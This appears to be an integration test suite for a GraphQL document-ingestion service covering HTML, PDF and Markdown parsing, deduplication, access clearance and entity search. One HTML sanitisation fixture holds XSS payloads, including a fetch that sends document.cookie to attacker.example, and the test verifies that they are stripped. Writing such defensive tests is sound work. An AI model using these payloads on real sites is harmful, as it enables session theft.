import { createHash } from 'node:crypto';
import { graphql, type GraphQLSchema } from 'graphql';
import { BundleRepository } from '../../src/bundle/load';
import type { Identity } from '../../src/auth/identity';
import type { Database } from '../../src/db';
import { DEFAULT_DOCUMENT_LIMITS, type DocumentLimits } from '../../src/documents/document-limits';
import type { IngestDocumentInput } from '../../src/documents/document.input';
import { DocumentService } from '../../src/documents/document.service';
import { Visibility } from '../../src/db';
import { createRequestContext } from '../../src/graphql/request-composition';
import { buildGraphSchema } from '../../src/graphql/schema';
import { Reliability, SourceKind, Tlp } from '../../src/model/vocabulary';
import { graphCounts, seededDatabase, clearGraph } from '../support/database';
import { minimalPdf } from '../support/pdf';

/**
 * Issue 22, documents in: ingestDocument against the real Neo4j, through the schema (roles,
 * validation, clearance) with a request context per caller: every format, hostile input refused
 * with nothing written, one document per text under concurrent ingests, TLP on every read.
 */

const who = (name: string, role: Identity['role'], clearance: Tlp): Identity => ({
  name,
  role,
  via: 'api-key',
  clearance,
});
const ADMIN = who('admin-doc', 'admin', Tlp.RED);
const EDITOR = who('editor-doc', 'editor', Tlp.AMBER);
const READER = who('reader-doc', 'reader', Tlp.GREEN);

const INGEST = `mutation Ingest($input: IngestDocumentInput!) {
  ingestDocument(input: $input) { id title kind format length contentHash duplicate undated language reliability tlp
    published { value precision } text }
}`;

interface Answer {
  data?: Record<string, unknown> | null;
  errors?: ReadonlyArray<{ message: string; extensions?: Record<string, unknown> }>;
}

interface Doc {
  id: string;
  title: string;
  format: string;
  length: number;
  contentHash: string;
  duplicate: boolean;
  text: string;
  tlp: string;
}

let db: Database;
let schema: GraphQLSchema;

async function run(
  source: string,
  variables: Record<string, unknown> = {},
  as: Identity | null = ADMIN,
  limits: DocumentLimits = DEFAULT_DOCUMENT_LIMITS,
): Promise<Answer> {
  const contextValue = createRequestContext(db, as, undefined, [], Tlp.CLEAR, limits);
  return (await graphql({ schema, source, variableValues: variables, contextValue })) as Answer;
}

async function ingest(input: Record<string, unknown>, as: Identity = ADMIN, limits?: DocumentLimits): Promise<Doc> {
  const answer = await run(INGEST, { input: { undated: true, ...input } }, as, limits);
  if (answer.errors?.length) throw new Error(answer.errors.map((e) => e.message).join('; '));
  return answer.data!.ingestDocument as Doc;
}

async function refusal(input: Record<string, unknown>, as: Identity = ADMIN, limits?: DocumentLimits) {
  const before = await graphCounts(db);
  const answer = await run(INGEST, { input: { undated: true, ...input } }, as, limits);
  expect(answer.data).toBeNull();
  expect(await graphCounts(db)).toEqual(before); // nothing written
  return answer.errors![0];
}

const base64 = (bytes: Buffer | string) => Buffer.from(bytes).toString('base64');
const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');

beforeAll(async () => {
  db = await seededDatabase();
  schema = await buildGraphSchema();
});
afterAll(async () => {
  await clearGraph(db);
  await db.close();
});

describe('ingesting a document', () => {
  it('keeps pasted text normalised (NFC, LF), hashed, as a Source with its metadata; the Source node holds no text', async () => {
    const pasted = 'Se\u0301gou report\r\nJNIM fighters blockaded the road.\r\n';
    const doc = await ingest({
      text: pasted,
      title: 'Ségou report',
      kind: SourceKind.ARTICLE,
      published: '2025-11',
      undated: false,
      language: 'en',
      reliability: Reliability.C,
    });
    const stored = 'Ségou report\nJNIM fighters blockaded the road.\n';
    expect(doc).toMatchObject({ title: 'Ségou report', format: 'TEXT', length: stored.length, duplicate: false });
    expect(doc.text).toBe(stored);
    expect(doc.contentHash).toBe(sha256(stored));
    expect(doc.id).toBe(`segou-report-${doc.contentHash.slice(0, 8)}`);
    const source = await run(`{ source(id: "${doc.id}") { title kind reliability published { value } } }`);
    expect(source.data).toEqual({
      source: { title: 'Ségou report', kind: 'ARTICLE', reliability: 'C', published: { value: '2025-11' } },
    });
    const [props] = await db.read<{ keys: string[] }>(
      'test.sourceKeys',
      'MATCH (s:Source {id: $id}) RETURN keys(s) AS keys',
      { id: doc.id },
    );
    expect(props.keys).not.toContain('text');
    const slice = await run(`{ document(id: "${doc.id}") { text(start: 13, end: 17) } }`);
    expect(slice.data).toEqual({ document: { text: 'JNIM' } });
  });

  it('answers the same text again with the existing document, duplicate: true, and writes nothing', async () => {
    const first = await ingest({ text: 'A report that arrives twice.', title: 'Twice' });
    const before = await graphCounts(db);
    const again = await ingest({ text: 'A report that arrives twice.', title: 'Another title' });
    expect(again).toMatchObject({ id: first.id, title: 'Twice', duplicate: true });
    expect(await graphCounts(db)).toEqual(before);
  });

  it('two identical ingests at once make one document; the other answers it as a duplicate', async () => {
    const text = `Raced report ${Date.now()}: the convoy was stopped near Kayes.`;
    const results = await Promise.all([1, 2, 3].map((n) => ingest({ text, title: `Raced ${n}` })));
    expect(new Set(results.map((r) => r.id)).size).toBe(1);
    expect(results.filter((r) => !r.duplicate)).toHaveLength(1);
    const [row] = await db.read<{ texts: number; sources: number }>(
      'test.raced',
      'CALL () { MATCH (t:DocumentText {contentHash: $hash}) RETURN count(t) AS texts } CALL () { MATCH (s:Source {documentHash: $hash}) RETURN count(s) AS sources } RETURN texts, sources',
      { hash: sha256(text) },
    );
    expect(row).toEqual({ texts: 1, sources: 1 });
  });

  it('reads Markdown as it is', async () => {
    const markdown = '# Field notes\n\n*JNIM* fighters were seen near **Nioro**.\n\n- item one\n';
    const doc = await ingest({ content: base64(markdown), filename: 'notes.md' });
    expect(doc).toMatchObject({ format: 'MARKDOWN', title: 'Field notes', text: markdown });
  });

  it('reduces HTML to its article text: no script, style or event handler survives', async () => {
    const html = `<!doctype html><html><head><title>Blockade deepens</title><style>p { color: red }</style>
<script>document.cookie = "stolen"; alert("xss")</script></head><body><nav><a href="/">Home</a></nav>
<article><h1>Blockade deepens</h1><p onclick="evilHandler()">Fuel convoys bound for Bamako were attacked near Kayes in September,
and drivers were abducted, according to local officials who spoke to reporters this week.</p>
<script>fetch("https://attacker.example/" + document.cookie)</script>
<p>Prices of fuel doubled in the capital within days, traders said.<img src=x onerror="alert(1)"></p></article></body></html>`;
    const doc = await ingest({ text: html, mediaType: 'text/html' });
    expect(doc.format).toBe('HTML');
    expect(doc.title).toBe('Blockade deepens');
    expect(doc.text).toContain('Fuel convoys bound for Bamako were attacked near Kayes');
    expect(doc.text).toContain('Prices of fuel doubled');
    for (const hostile of ['cookie', 'alert', 'evilHandler', 'attacker', 'color: red', 'onerror', '<'])
      expect(doc.text).not.toContain(hostile);
  });

  it('reads a PDF to its text, with its title', async () => {
    const pdf = minimalPdf(['JNIM blockaded fuel imports to Mali.', 'Drivers were abducted near Kayes.'], {
      title: 'Generated report',
    });
    const doc = await ingest({ content: base64(pdf), filename: 'report.pdf' });
    expect(doc).toMatchObject({ format: 'PDF', title: 'Generated report' });
    expect(doc.text).toBe('JNIM blockaded fuel imports to Mali.\nDrivers were abducted near Kayes.');
  });
});

describe('bad input: a clear error naming the field, and nothing written', () => {
  it('an encrypted PDF', async () => {
    const error = await refusal({ content: base64(minimalPdf(['secret'], { encrypted: true })), filename: 'x.pdf' });
    expect(error.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.content' });
    expect(error.message).toMatch(/encrypted PDF/);
  });

  it('a PDF that is not one (garbage after the header)', async () => {
    const error = await refusal({ content: base64('%PDF-1.7\n\u0001garbage garbage\n%%EOF'), filename: 'x.pdf' });
    expect(error.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.content' });
    expect(error.message).toMatch(/could not be read/);
  });

  it('binary data, and bytes that are not UTF-8', async () => {
    const binary = await refusal({ content: base64(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x00, 0x00])) });
    expect(binary.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.content' });
    expect(binary.message).toMatch(/not a PDF and not text/);
    const latin1 = await refusal({ content: base64(Buffer.from('Ségou', 'latin1')), filename: 'a.txt' });
    expect(latin1.message).toMatch(/not UTF-8/);
  });

  it('a document over the size cap, text or file, refused before it is read', async () => {
    const small = { maxBytes: 1_000, parseTimeoutMs: 5_000 };
    const text = await refusal({ text: 'x'.repeat(1_001) }, ADMIN, small);
    expect(text.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.text' });
    expect(text.message).toMatch(/at most 1000 bytes \(DOCUMENT_MAX_BYTES\)/);
    const file = await refusal({ content: base64(Buffer.alloc(2_000, 0x41)) }, ADMIN, small);
    expect(file.extensions).toMatchObject({ field: 'input.content' });
    // The default cap (10 MB), through the use case itself: base64 is measured before it is decoded.
    const service = new DocumentService(db, Visibility.operator(db));
    const eleven = Buffer.alloc(11_000_000, 0x61);
    expect(() =>
      service.fromInput({ content: eleven.toString('base64'), undated: true } as IngestDocumentInput),
    ).toThrow(/input.content: is 11000000 bytes: a document may have at most 10000000 bytes/);
    const before = await graphCounts(db);
    const metadata = { kind: SourceKind.REPORT, reliability: Reliability.F, tlp: Tlp.CLEAR, undated: true };
    await expect(
      service.ingest({ ...metadata, content: { bytes: Buffer.alloc(10_000_001, 0x61), field: 'big.txt' } }, 'test'),
    ).rejects.toMatchObject({ extensions: { code: 'BAD_USER_INPUT', field: 'big.txt' } });
    expect(await graphCounts(db)).toEqual(before);
  });

  it('an HTML page whose reading passes DOCUMENT_PARSE_TIMEOUT_MS: the worker is stopped', async () => {
    const html = `<html><body>${'<div><p>Fuel convoys were attacked near Kayes.</p>'.repeat(20_000)}</body></html>`;
    const started = Date.now();
    const error = await refusal({ text: html }, ADMIN, { maxBytes: 10_000_000, parseTimeoutMs: 100 });
    expect(error.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.text' });
    expect(error.message).toMatch(/took too long to read/);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('both text and content, neither, no date and not undated, a bad language', async () => {
    expect((await refusal({ text: 'a', content: base64('b') })).extensions).toMatchObject({ field: 'input.text' });
    expect((await refusal({})).extensions).toMatchObject({ field: 'input.text' });
    expect((await refusal({ text: 'Some text', undated: false })).extensions).toMatchObject({
      field: 'input.published',
    });
    expect((await refusal({ text: 'Some text', language: 'English' })).extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
    });
  });

  it('a document never takes an existing entity id; the failed transaction leaves no text behind', async () => {
    const text = 'A report that claims the id of JNIM.';
    const error = await refusal({ text, id: 'jnim' });
    expect(error.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.id' });
    const [row] = await db.read<{ n: number }>(
      'test.text',
      'MATCH (t:DocumentText {contentHash: $h}) RETURN count(t) AS n',
      {
        h: sha256(text),
      },
    );
    expect(row.n).toBe(0);
    expect((await run('{ entity(id: "jnim") { name } }')).data).toEqual({ entity: { name: 'JNIM' } });
  });

  it('a failure after the Source is written (the text write breaks a constraint) leaves nothing', async () => {
    // A stray text already claims the source id, so the last statement of the ingest fails.
    await db.write('test.stray', "CREATE (:DocumentText {contentHash: 'stray', sourceId: 'half-written'})");
    const before = await graphCounts(db);
    const answer = await run(INGEST, { input: { text: 'Half of an ingest.', id: 'half-written', undated: true } });
    expect(answer.errors?.length).toBeGreaterThan(0);
    expect(await graphCounts(db)).toEqual(before);
    expect((await run('{ entity(id: "half-written") { id } }')).data).toEqual({ entity: null });
    await db.write('test.stray', "MATCH (t:DocumentText {contentHash: 'stray'}) DELETE t");
  });
});

describe('roles and TLP', () => {
  it('readers and anonymous callers cannot ingest; an editor cannot ingest above its clearance', async () => {
    const asReader = await run(INGEST, { input: { text: 'reader text', undated: true } }, READER);
    expect(asReader.errors?.[0].extensions).toMatchObject({ code: 'FORBIDDEN' });
    const anonymous = await run(INGEST, { input: { text: 'anonymous text', undated: true } }, null);
    expect(anonymous.errors?.[0].extensions).toMatchObject({ code: 'UNAUTHENTICATED' });
    const red = await refusal({ text: 'An editor tries RED.', tlp: 'RED' }, EDITOR);
    expect(red.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.tlp' });
    const amber = await ingest({ text: 'An editor writes AMBER about Ségou.', tlp: 'AMBER' }, EDITOR);
    expect(amber.tlp).toBe('AMBER');
  });

  it('a reader sees nothing of a RED document: not the document, its text, its search hits or mentions in it', async () => {
    const doc = await ingest({
      text: 'Zircon notes: GSIM couriers crossed at Diboli under cover of night.',
      tlp: 'RED',
    });
    const queries = {
      document: `{ document(id: "${doc.id}") { id text } }`,
      source: `{ source(id: "${doc.id}") { id } }`,
      search: '{ searchDocuments(query: "Diboli couriers") { hits { document { id } snippet } } }',
      mentions: '{ mentions(entityId: "jnim") { document { id } sentence } }',
    };
    const admin = await run(queries.search);
    expect(JSON.stringify(admin.data)).toContain(doc.id);
    for (const query of Object.values(queries)) {
      const answer = await run(query, {}, READER);
      // source(id) and document(id) of a hidden source are NOT_FOUND, as an unknown id (issue 23);
      // mentions of a visible entity leave the hidden document out without an error.
      const codes = (answer.errors ?? []).map((error) => error.extensions?.code);
      expect(codes.filter((code) => code !== 'NOT_FOUND')).toEqual([]);
      expect(JSON.stringify(answer.data)).not.toContain(doc.id);
      expect(JSON.stringify(answer.data)).not.toContain('Diboli');
    }
    // The same text again by an editor (AMBER) is not answered with the RED document either.
    const again = await refusal(
      { text: 'Zircon notes: GSIM couriers crossed at Diboli under cover of night.' },
      EDITOR,
    );
    expect(again.extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
    expect(again.message).not.toContain(doc.id);
  });
});

describe('search and mentions', () => {
  it('finds documents by words, accent- and case-insensitively, with the offsets of the hit', async () => {
    const doc = await ingest({ text: 'Intro line.\nTraders in SÉGOU said the blockade had doubled prices.' });
    const answer = await run(
      '{ searchDocuments(query: "segou blockade") { hits { document { id } start end snippet snippetStart } } }',
    );
    const hits = (
      answer.data!.searchDocuments as {
        hits: Array<{ document: { id: string }; start: number; end: number; snippet: string; snippetStart: number }>;
      }
    ).hits;
    const hit = hits.find((h) => h.document.id === doc.id)!;
    expect(doc.text.slice(hit.start, hit.end)).toBe('SÉGOU');
    expect(doc.text.slice(hit.snippetStart, hit.snippetStart + hit.snippet.length)).toBe(hit.snippet);
    expect(hit.snippet).toContain('blockade');
  });

  it("finds an entity's name and aliases across documents, at exact offsets, with the sentence", async () => {
    const text =
      'Officials spoke on Monday. Fighters of Jama’at Nusrat al-Islam wal-Muslimin stopped trucks. ' +
      'Later the gsim said so again! Nothing else.';
    const doc = await ingest({ text });
    const answer = await run(
      '{ mentions(entityId: "jnim", first: 50) { document { id } start end matched sentence sentenceStart } }',
    );
    const mentions = (
      answer.data!.mentions as Array<{
        document: { id: string };
        start: number;
        end: number;
        matched: string;
        sentence: string;
        sentenceStart: number;
      }>
    ).filter((m) => m.document.id === doc.id);
    expect(mentions.map((m) => m.matched)).toEqual(['Jama’at Nusrat al-Islam wal-Muslimin', 'gsim']);
    for (const mention of mentions) {
      expect(text.slice(mention.start, mention.end)).toBe(mention.matched);
      expect(text.slice(mention.sentenceStart, mention.sentenceStart + mention.sentence.length)).toBe(mention.sentence);
    }
    expect(mentions[0].sentence).toBe('Fighters of Jama’at Nusrat al-Islam wal-Muslimin stopped trucks.');
    expect(mentions[1].sentence).toBe('Later the gsim said so again!');
  });

  it('finds names across chunk edges once each, and never a name glued to a word at an edge', async () => {
    // Search and mentions work on chunks of 8,000 characters: Kayes straddles the first edge, a
    // word glued to it ("xKayes") starts right at the second edge's left, a whole one at the third.
    const chars: string[] = Array.from({ length: 25_000 }, (_, i) => (i % 6 === 5 ? ' ' : 'w'));
    const put = (at: number, text: string) => [...text].forEach((char, i) => (chars[at + i] = char));
    put(7_996, ' Kayes ');
    put(15_999, 'xKayes ');
    put(23_999, ' Kayes. ');
    const doc = await ingest({ text: chars.join('') });
    const answer = await run('{ mentions(entityId: "kayes", first: 100) { document { id } start end matched } }');
    const found = (answer.data!.mentions as Array<{ document: { id: string }; start: number; matched: string }>)
      .filter((m) => m.document.id === doc.id)
      .map((m) => [m.start, m.matched]);
    expect(found).toEqual([
      [7_997, 'Kayes'],
      [24_000, 'Kayes'],
    ]);
  });

  it('pages search hits with an opaque cursor, reads text in bounded slices, and names the bad argument', async () => {
    const ids = [];
    for (const n of [1, 2, 3])
      ids.push((await ingest({ text: `Paging report ${n}: the quarry near Tessalit closed.` })).id);
    type Page = { hits: Array<{ document: { id: string } }>; endCursor: string | null };
    const page = async (after: string | null) =>
      (
        await run(
          'query($after: String) { searchDocuments(query: "quarry Tessalit", first: 2, after: $after) { hits { document { id } } endCursor } }',
          { after },
        )
      ).data!.searchDocuments as Page;
    const first = await page(null);
    expect(first.hits).toHaveLength(2);
    const second = await page(first.endCursor);
    expect(second.endCursor).toBeNull();
    expect([...first.hits, ...second.hits].map((hit) => hit.document.id).sort()).toEqual(ids.sort());
    const badCursor = await run('{ searchDocuments(query: "quarry", after: "bm90LWEtY3Vyc29y") { endCursor } }');
    expect(badCursor.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'after' });
    const slices = await run(`{ document(id: "${ids[0]}") { a: text(start: 0, end: 6) b: text(start: 7) } }`);
    expect(slices.data).toEqual({ document: { a: 'Paging', b: 'report 1: the quarry near Tessalit closed.' } });
    const past = await run(`{ document(id: "${ids[0]}") { text(start: 1000) } }`);
    expect(past.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'start' });
    const tooLong = await run(`{ document(id: "${ids[0]}") { text(start: 0, end: 200000) } }`);
    expect(tooLong.data).toEqual({ document: { text: 'Paging report 1: the quarry near Tessalit closed.' } });
  });

  it('checks that quoted excerpts are what their document holds at their offsets, naming each one that is not', async () => {
    const text = 'Officials said the blockade of Kayes began in September.';
    const doc = await ingest({ text });
    const bundles = new BundleRepository();
    const at = (excerpt: string) => ({
      documentId: doc.id,
      start: text.indexOf(excerpt),
      end: text.indexOf(excerpt) + excerpt.length,
    });
    const check = (quotes: Parameters<BundleRepository['checkExcerpts']>[1]) =>
      db.writeTransaction('test.excerpts', (tx) => bundles.checkExcerpts(tx, quotes));
    await expect(
      check([{ field: 'a.excerpt', excerpt: 'the blockade of Kayes', ...at('the blockade of Kayes') }]),
    ).resolves.toBeUndefined();
    const refused = check([
      { field: 'a.excerpt', excerpt: 'the blockade of Kayes', ...at('the blockade of Kayes') },
      { field: 'b.excerpt', excerpt: 'the blockade of Mopti', ...at('the blockade of Kayes') },
      { field: 'c.excerpt', excerpt: 'began', documentId: doc.id, start: 900, end: 905 },
      { field: 'd.excerpt', excerpt: 'began', documentId: 'no-such-document', start: 0, end: 5 },
      { field: 'e.excerpt', excerpt: 'began', documentId: doc.id, start: 5, end: 2 },
    ]);
    await expect(refused).rejects.toMatchObject({ extensions: { code: 'BAD_USER_INPUT', field: 'e.excerpt' } });
    const problems = (await check([
      { field: 'b.excerpt', excerpt: 'the blockade of Mopti', ...at('the blockade of Kayes') },
      { field: 'c.excerpt', excerpt: 'began', documentId: doc.id, start: 900, end: 905 },
      { field: 'd.excerpt', excerpt: 'began', documentId: 'no-such-document', start: 0, end: 5 },
    ]).catch((error: { problems: Array<{ field: string; reason: string }> }) => error.problems))!;
    expect(problems).toEqual([
      { field: 'b.excerpt', reason: `does not match "${doc.id}" at [15, 36), which reads "the blockade of Kayes"` },
      { field: 'c.excerpt', reason: `offsets [900, 905) pass the end of "${doc.id}" (length ${text.length})` },
      { field: 'd.excerpt', reason: 'no document "no-such-document"' },
    ]);
  });
});
